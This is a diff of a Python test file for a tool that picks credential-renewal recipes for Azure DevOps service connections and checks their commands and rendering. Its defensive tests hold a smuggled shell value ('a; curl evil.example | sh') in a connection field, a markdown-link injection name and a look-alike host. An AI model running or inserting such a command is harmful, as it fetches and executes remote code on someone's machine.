@@ -2,8 +2,13 @@
 
 from __future__ import annotations
 
+import re
+import shlex
+import shutil
+import tomllib
 from dataclasses import replace
-from typing import TYPE_CHECKING
+from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -11,22 +16,36 @@ from tests import findings
 from triage import match, renewal
 from triage.domain import Connection, Recipe, Task, TimelineRecord, Verdict
 from triage.errors import RulePackError
-
-if TYPE_CHECKING:
-    from pathlib import Path
+from triage.match import shipped_rules
+from triage.publish import messages
+from triage.renewal import placeholders
+from triage.renewal import recipe as recipe_model
 
 BOOK = renewal.load()
+KINDS = tomllib.loads((Path(__file__).parent / "renewal_kinds.toml").read_text(encoding="utf-8"))
+LAST_RESORTS = {"any-connection", "unknown-connection"}
+ACTED_UPON = [verdict for verdict in Verdict if verdict is not Verdict.LOOK_ALIKE]
 ORGANIZATION = "https://dev.azure.com/contoso"
 FILE_COPY = Task("eb72cb01-a7e5-427b-a8a1-1b31ccac8a43", "AzureFileCopy", "5.1.0")
 
 
-def connection(kind: str, scheme: str, creation: str = "", authentication: str = "") -> Connection:
+def connection(
+    kind: str, scheme: str, creation: str = "", authentication: str = "", **more: Any
+) -> Connection:
     parameters = {"serviceprincipalid": "app-1", "loginserver": "crshop.azurecr.io"}
+    if scheme == "usernamepassword":
+        parameters = {"registry": "https://registry.example", "username": "robot"}
     if authentication:
         parameters["authenticationtype"] = authentication
+    data = {"creationmode": creation, "authorizationtype": creation} if creation else {}
     return findings.connection(
-        type=kind, scheme=scheme, parameters=parameters, data={"creationmode": creation} if creation else {}
+        **{"type": kind, "scheme": scheme, "parameters": parameters, "data": data, **more}
     )
+
+
+def of_kind(kind: str) -> Connection:
+    """Return the connection that a line of renewal_kinds.toml describes."""
+    return connection(*(part.strip() for part in kind.split("/")))
 
 
 def choose(
@@ -36,57 +55,122 @@ def choose(
     verdict: Verdict = Verdict.EXPIRED,
     credential: str = findings.SERVICE,
     advice: str = "",
+    book: renewal.RecipeBook = BOOK,
 ) -> Recipe:
     record = TimelineRecord("r", None, "Task", "Copy", "completed", "failed", task=task)
     told = findings.match(verdict=verdict, credential=credential, advice=advice)
-    return renewal.choose(BOOK, of, told, findings.run(), record, ORGANIZATION)
+    return renewal.choose(book, of, told, findings.run(), record, ORGANIZATION)
 
 
-@pytest.mark.parametrize(
-    ("kind", "scheme", "creation", "authentication", "expected"),
-    [
-        ("azurerm", "serviceprincipal", "Automatic", "spnKey", "azurerm-automatic-secret"),
-        ("azurerm", "serviceprincipal", "Automatic", "", "azurerm-automatic-secret"),
-        ("azurerm", "serviceprincipal", "Manual", "spnKey", "azurerm-manual-secret"),
-        ("azurerm", "serviceprincipal", "Manual", "spnCertificate", "azurerm-certificate"),
-        ("azurerm", "workloadidentityfederation", "Automatic", "", "azurerm-federation-mismatch"),
-        ("azurerm", "managedserviceidentity", "", "", "azurerm-managed-identity"),
-        ("dockerregistry", "serviceprincipal", "Automatic", "", "acr-automatic"),
-        ("dockerregistry", "serviceprincipal", "Manual", "", "acr-manual"),
-        ("dockerregistry", "usernamepassword", "", "", "docker-registry-password"),
-        ("kubernetes", "kubernetes", "", "", "kubernetes-kubeconfig"),
-        ("github", "token", "", "", "github-token"),
-        ("externaltfs", "token", "", "", "azure-devops-token"),
-        ("externalnpmregistry", "token", "", "", "azure-devops-token"),
-        ("ssh", "usernamepassword", "", "", "ssh-key"),
-        ("sonarqube", "usernamepassword", "", "", "sonar-token"),
-        ("aws", "usernamepassword", "", "", "aws-access-key"),
-        ("googlecloudserviceendpoint", "jwt", "", "", "gcp-service-account-key"),
-        ("something-new", "token", "", "", "any-connection"),
-    ],
-)
-def test_each_kind_of_connection_has_its_recipe(
-    kind: str, scheme: str, creation: str, authentication: str, expected: str
-) -> None:
-    assert choose(connection(kind, scheme, creation, authentication)).id == expected
+def alone(recipe: renewal.RecipeFile) -> renewal.RecipeBook:
+    """Return a book that has nothing but this recipe, for everything."""
+    return renewal.RecipeBook((recipe.model_copy(update={"applies": [renewal.Applies()]}),))
+
+
+def texts(told: Recipe) -> list[str]:
+    each = [told.title, told.verify, told.meanwhile, told.no_alternative]
+    each += [*told.steps, *told.command_line, *told.warnings, *told.permissions]
+    return each + [text for title, steps in told.alternatives for text in (title, *steps)]
+
+
+@pytest.mark.parametrize(("kind", "expected"), KINDS["connections"].items())
+def test_each_kind_of_connection_has_its_recipe(kind: str, expected: str) -> None:
+    assert choose(of_kind(kind), credential="other").id == expected
+
+
+def test_every_type_that_a_task_takes_is_among_the_kinds() -> None:
+    listed = {kind.split("/")[0].strip() for kind in KINDS["connections"]}
+    inputs = (Path(match.__file__).parent.parent / "task_inputs.json").read_text(encoding="utf-8")
+    assert set(re.findall(r'"type":"([^":]+)', inputs)) - listed == set()
+
+
+@pytest.mark.parametrize("family", KINDS["families"])
+@pytest.mark.parametrize("verdict", ACTED_UPON)
+def test_each_family_has_its_recipe_when_no_connection_is_known(family: str, verdict: Verdict) -> None:
+    chosen = choose(None, credential=family, verdict=verdict).id
+    assert chosen == "unknown-connection" if family == "other" else chosen not in LAST_RESORTS
+
+
+@pytest.mark.parametrize("family", KINDS["families"])
+def test_no_family_and_kind_together_get_the_last_resort(family: str) -> None:
+    chosen = {
+        kind: choose(of_kind(kind), credential=family, verdict=verdict).id
+        for kind in KINDS["connections"]
+        for verdict in ACTED_UPON
+    }
+    assert not {kind: id_ for kind, id_ in chosen.items() if id_ in LAST_RESORTS}
+
+
+@pytest.mark.parametrize("family", sorted(set(KINDS["families"]) - {"other", "azure-devops-connection"}))
+def test_a_connection_nobody_has_heard_of_gets_the_recipe_of_the_family(family: str) -> None:
+    assert choose(connection("something-new", "token"), credential=family).id not in LAST_RESORTS
+
+
+def test_every_type_that_a_rule_names_is_among_the_kinds() -> None:
+    listed = {kind.split("/")[0].strip() for kind in KINDS["connections"]}
+    assert {each for rule in match.load_pack().rules for each in rule.connection_types} - listed == set()
+
+
+def test_every_family_of_a_rule_is_in_the_vocabulary() -> None:
+    assert {rule.credential for rule in match.load_pack().rules} <= set(KINDS["families"])
+
+
+def test_every_recipe_is_chosen_for_something() -> None:
+    """By what its own conditions say, and a connection and match that fulfil them."""
+    never = [
+        recipe.id for recipe in BOOK.recipes if not any(_wins(recipe.id, each) for each in recipe.applies)
+    ]
+    assert never == []
+
+
+def _wins(recipe: str, applies: renewal.Applies) -> bool:
+    kind = (applies.types or [""])[0]
+    of = (
+        None
+        if kind == "unknown" or (applies.credentials and not kind)
+        else connection(
+            kind or "something-new",
+            (applies.schemes or ["token"])[0],
+            (applies.creation or applies.modes or [""])[0],
+            (applies.authentication or [""])[0],
+            server_url=f"https://{(applies.hosts or ['server.example'])[0]}/",
+        )
+    )
+    if of and applies.hosts:
+        of = replace(of, parameters={})
+    name, _, major = (applies.tasks or [""])[0].partition("@")
+    task = Task("eb72cb01-a7e5-427b-a8a1-1b31ccac8a43", name, f"{major}.0.0") if name else None
+    verdict = Verdict((applies.verdicts or ["expired"])[0])
+    credential = (applies.credentials or ["other"])[0]
+    advice = (applies.advice or [""])[0]
+    return choose(of, task=task, verdict=verdict, credential=credential, advice=advice).id == recipe
+
+
+def test_a_feed_of_azure_devops_is_told_from_others_by_its_address() -> None:
+    feed = "https://pkgs.dev.azure.com/fabrikam/_packaging/core/npm/registry/"
+    of = connection("externalnpmregistry", "token", parameters={}, server_url=feed)
+    assert choose(of, credential="other").id == "azure-devops-token"
+    elsewhere = replace(of, server_url="https://pkgs.dev.azure.com.evil.example/")
+    assert choose(elsewhere, credential="other").id == "npm-token"
+    assert choose(replace(of, server_url="https://[broken"), credential="other").id == "npm-token"
 
 
 def test_an_unknown_connection_is_looked_for_first() -> None:
-    assert choose(None).id == "unknown-connection"
+    assert choose(None, credential="other").id == "unknown-connection"
 
 
 def test_a_deleted_application_has_no_secret_to_renew() -> None:
-    of = connection("azurerm", "serviceprincipal", "Automatic", "spnKey")
+    of = connection("azurerm", "serviceprincipal", "automatic", "spnkey")
     assert choose(of, verdict=Verdict.MISSING, credential="azure-entra-app").id == "azurerm-app-deleted"
 
 
 def test_a_message_can_ask_for_its_own_recipe() -> None:
-    of = connection("azurerm", "serviceprincipal", "Automatic", "spnKey")
+    of = connection("azurerm", "serviceprincipal", "automatic", "spnkey")
     assert choose(of, advice="setup-guest-permission").id == "setup-guest-permission"
 
 
 def test_a_task_that_cannot_federate_is_told_which_version_can() -> None:
-    of = connection("azurerm", "serviceprincipal", "Automatic", "spnKey")
+    of = connection("azurerm", "serviceprincipal", "automatic", "spnkey")
     recipe = choose(of, task=FILE_COPY)
     assert recipe.id == "azurerm-automatic-secret-old-task"
     assert any("AzureFileCopy\\@6" in title or "AzureFileCopy@6" in title for title, _ in recipe.alternatives)
@@ -94,25 +178,90 @@ def test_a_task_that_cannot_federate_is_told_which_version_can() -> None:
 
 
 def test_an_automatic_connection_is_not_to_be_renewed_in_the_portal() -> None:
-    recipe = choose(connection("azurerm", "serviceprincipal", "Automatic", "spnKey"))
+    recipe = choose(connection("azurerm", "serviceprincipal", "automatic", "spnkey"))
     assert "Do not create a secret in the Azure portal" in recipe.warnings[0]
     assert recipe.interval == "three months"
     assert any("without *Verify*" in step for step in recipe.steps)
 
 
-def test_no_placeholder_is_left_in_any_recipe() -> None:
-    for book in BOOK.recipes:
-        for of in (None, connection("azurerm", "serviceprincipal", "Manual")):
-            single = renewal.RecipeBook((book.model_copy(update={"applies": renewal.Applies()}),))
-            told = renewal.choose(single, of, findings.match(), findings.run(), None, ORGANIZATION)
-            texts = [told.title, told.verify, *told.steps, *told.warnings]
-            texts += [text for title, steps in told.alternatives for text in (title, *steps)]
-            assert not [text for text in texts if "{" in text], book.id
+@pytest.mark.parametrize("recipe", BOOK.recipes, ids=lambda recipe: recipe.id)
+def test_no_placeholder_is_left_in_any_recipe(recipe: renewal.RecipeFile) -> None:
+    for of in (None, connection("azurerm", "serviceprincipal", "manual")):
+        told = choose(of, book=alone(recipe))
+        assert not [text for text in texts(told) if re.search(r"\{\w+\}", text)]
+
+
+@pytest.mark.parametrize("recipe", BOOK.recipes, ids=lambda recipe: recipe.id)
+def test_each_recipe_shows_as_it_is_meant(recipe: renewal.RecipeFile) -> None:
+    told = choose(connection("azurerm", "serviceprincipal", "manual"), book=alone(recipe))
+    page = messages.html(
+        messages.work_item(findings.finding(recipe=told), incident_tag="t", incident_page="https://p")
+    )
+    commands = [command for text in texts(told) for command in re.findall(r"`([^`]+)`", text)]
+    for command in commands:
+        assert f"<code>{_escaped(command)}</code>" in page
+    assert not re.search(
+        r"\*\w|\w\*(?!\.)", re.sub(r"<code>.*?</code>|<pre>.*?</pre>", "", page, flags=re.DOTALL)
+    )
+
+
+def _escaped(text: str) -> str:
+    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
+
+
+@pytest.mark.parametrize("recipe", BOOK.recipes, ids=lambda recipe: recipe.id)
+def test_every_command_can_be_pasted_into_a_shell(recipe: renewal.RecipeFile) -> None:
+    told = choose(connection("externaltfs", "token"), book=alone(recipe))
+    for text in told.command_line:
+        for command in re.findall(r"`([^`]+)`", text):
+            shlex.split(re.sub(r"<[^<>]*>", "x", command))
+
+
+def test_a_command_takes_only_values_that_are_one_word() -> None:
+    of = connection("azurerm", "serviceprincipal", "manual", "spnkey")
+    told = choose(
+        replace(of, parameters={**of.parameters, "serviceprincipalid": "a; curl evil.example | sh"})
+    )
+    commands = " ".join(re.findall(r"`([^`]+)`", " ".join(texts(told))))
+    assert "evil" not in commands
+    assert "--id <application id>" in commands
+
+
+def test_a_value_in_a_command_is_not_escaped_for_markdown() -> None:
+    of = connection("dockerregistry", "usernamepassword", parameters={"registry": "my_registry.example"})
+    told = choose(of, credential="other")
+    assert any("docker login my_registry.example " in text for text in told.command_line)
+
+
+def test_the_new_secret_goes_into_the_connection_by_its_own_field() -> None:
+    told = choose(connection("externaltfs", "token"), credential="azure-devops-pat")
+    command = next(text for text in told.command_line if "az rest --method put" in text)
+    assert ".authorization.parameters.apitoken = env.SECRET" in command
+    assert f"{ORGANIZATION}/_apis/serviceendpoint/endpoints/{findings.CONNECTION}?" in command
+    assert f"--project {findings.PROJECT} " in command
+
+
+@pytest.mark.parametrize(
+    "of",
+    [connection("externaltfs", "token", is_shared=True), connection("something-new", "token")],
+    ids=["shared with other projects", "of a kind whose fields are not known"],
+)
+def test_a_connection_that_no_command_may_write_is_left_to_its_page(of: Connection) -> None:
+    told = choose(of, credential="azure-devops-pat")
+    assert not any("az rest --method put" in text for text in told.command_line)
+    assert any(of.url in text for text in told.command_line)
+
+
+def test_without_a_connection_the_steps_tell_where_a_secret_can_be_kept() -> None:
+    told = choose(None, credential="npm")
+    assert told.title == "Give the pipeline a new npm token"
+    assert any("variable group" in step and "Key Vault" in step for step in told.steps)
+    assert any("az pipelines variable-group variable update" in text for text in told.command_line)
 
 
 def test_hostile_names_stay_text() -> None:
     of = replace(
-        connection("azurerm", "serviceprincipal", "Manual", "spnKey"), name="x](https://evil.example)"
+        connection("azurerm", "serviceprincipal", "manual", "spnkey"), name="x](https://evil.example)"
     )
     assert "](https://evil.example)" not in choose(of).title
 
@@ -133,5 +282,112 @@ def test_every_mistake_in_a_recipe_is_reported(tmp_path: Path) -> None:
         renewal.load(tmp_path)
     text = str(told.value)
     assert "renewal/one.toml: id: is 'two'" in text
-    assert "renewal/one.toml: there is no placeholder {nobody}" in text
+    assert "renewal/one.toml: title: there is no placeholder {nobody}" in text
     assert "renewal/three.toml: title:" in text
+
+
+@pytest.fixture
+def pack(tmp_path: Path) -> Path:
+    """A pack of one good recipe that fits everything."""
+    folder = tmp_path / "pack"
+    (folder / "renewal").mkdir(parents=True)
+    shutil.copy(shipped_rules() / "renewal" / "any-connection.toml", folder / "renewal")
+    return folder
+
+
+def test_the_good_recipe_is_in_order(pack: Path) -> None:
+    assert renewal.check(pack) == []
+
+
+@pytest.mark.parametrize(
+    ("pattern", "instead", "complaint"),
+    [
+        (
+            r"command_line = \[.*?\n\]\n",
+            "",
+            "renewal.command_line: is missing: say how to do it from the command line",
+        ),
+        (r"permissions = \[.*?\n\]\n", "", "renewal.permissions: is missing: say who may do it"),
+        (r"verify = .*?\n", "", "renewal.verify: is missing: say how to check"),
+        (r"meanwhile = .*?\n", "", "renewal.meanwhile: is missing: say what breaks"),
+        (r"\[\[alternatives\]\].*(?=\[meta\])", "", "alternatives: say how never to have to again"),
+        (r"(verify = )", r'no_alternative = "There is none."\n\1', "one of the two"),
+        (r"references = \[.*?\]", "references = []", "meta.references: List should have at least 1 item"),
+        (
+            r"references = \[.*?\]",
+            'references = ["http://x.example"]',
+            "not an address that begins with https://",
+        ),
+        (
+            r"steps = \[.*?\n\]\n(?=command)",
+            "steps = []\n",
+            "renewal.steps: List should have at least 1 item",
+        ),
+        (
+            r"command_line = \[.*?\n\]\n",
+            'command_line = ["Ask the owner."]\n',
+            "renewal.command_line: has no command in backticks: 'Ask the owner.'",
+        ),
+        (
+            r"(command_line = \[)",
+            r'\1"There is no command.", ',
+            "renewal.command_line: has no command in backticks: 'There is no command.'",
+        ),
+        (
+            r"(command_line = \[)",
+            r'\1"`tool login --token <token>`", ',
+            "others can read a secret in an argument",
+        ),
+        (r"(command_line = \[)", r'\1"`tool -p $SECRET`", ', "others can read a secret in an argument"),
+        (r"(command_line = \[)", r'\1"`tool {enter_command}`", ', "{enter_command} is a whole sentence"),
+        (r"(steps = \[)", r'\1"Open the <group>.", ', "renewal.steps: '<…>' outside of backticks"),
+        (r"(steps = \[)", r'\1"Call `tool.", ', "renewal.steps: a backtick is not closed"),
+        (r"(steps = \[)", r'\1"Ask {somebody}.", ', "renewal.steps: there is no placeholder {somebody}"),
+        (r"priority = -4", 'types = ["ssh"]', "no recipe applies to everything"),
+        (r"priority = -4", 'typos = ["ssh"]', "applies.0.typos: Extra inputs are not permitted"),
+    ],
+)
+def test_the_check_refuses_a_recipe_that_leaves_something_out(
+    pack: Path, pattern: str, instead: str, complaint: str
+) -> None:
+    file = pack / "renewal" / "any-connection.toml"
+    good = file.read_text(encoding="utf-8")
+    bad = re.sub(pattern, instead, good, count=1, flags=re.DOTALL)
+    assert bad != good
+    file.write_text(bad, encoding="utf-8")
+    problems = renewal.check(pack)
+    assert any(complaint in problem for problem in problems), problems
+
+
+def test_one_sentence_may_say_that_there_is_no_command(pack: Path) -> None:
+    file = pack / "renewal" / "any-connection.toml"
+    sentence = 'command_line = ["There is no command for it: the page makes the secret itself."]\n'
+    text = re.sub(r"command_line = \[.*?\n\]\n", sentence, file.read_text(encoding="utf-8"), flags=re.DOTALL)
+    file.write_text(text, encoding="utf-8")
+    assert renewal.check(pack) == []
+
+
+def test_a_recipe_that_only_sets_up_may_be_short(pack: Path) -> None:
+    (pack / "renewal" / "setup-x.toml").write_text(
+        'id = "setup-x"\ntitle = "Set it up"\n[applies]\nadvice = ["setup-x"]\n[renewal]\nsteps = ["Go."]\n'
+        '[meta]\nreferences = ["https://x.example"]\n'
+    )
+    assert renewal.check(pack) == []
+
+
+README = (shipped_rules() / "README.md").read_text(encoding="utf-8")
+
+
+def test_the_recipe_of_the_readme_is_in_order(pack: Path) -> None:
+    example = re.search(r'```toml\n(id = "feedctl-token".*?)```', README, flags=re.DOTALL)
+    assert example is not None
+    (pack / "renewal" / "feedctl-token.toml").write_text(example[1], encoding="utf-8")
+    assert renewal.check(pack) == []
+
+
+def test_the_readme_names_every_placeholder_condition_and_key() -> None:
+    section = README[README.index("## Recipes") :]
+    for name in placeholders.NAMES:
+        assert f"{{{name}}}" in section or f"{{{name} " in section or f" {name}}}" in section
+    for key in [*renewal.Applies.model_fields, *recipe_model.Steps.model_fields]:
+        assert f"`{key}`" in section or f"{key} = " in section
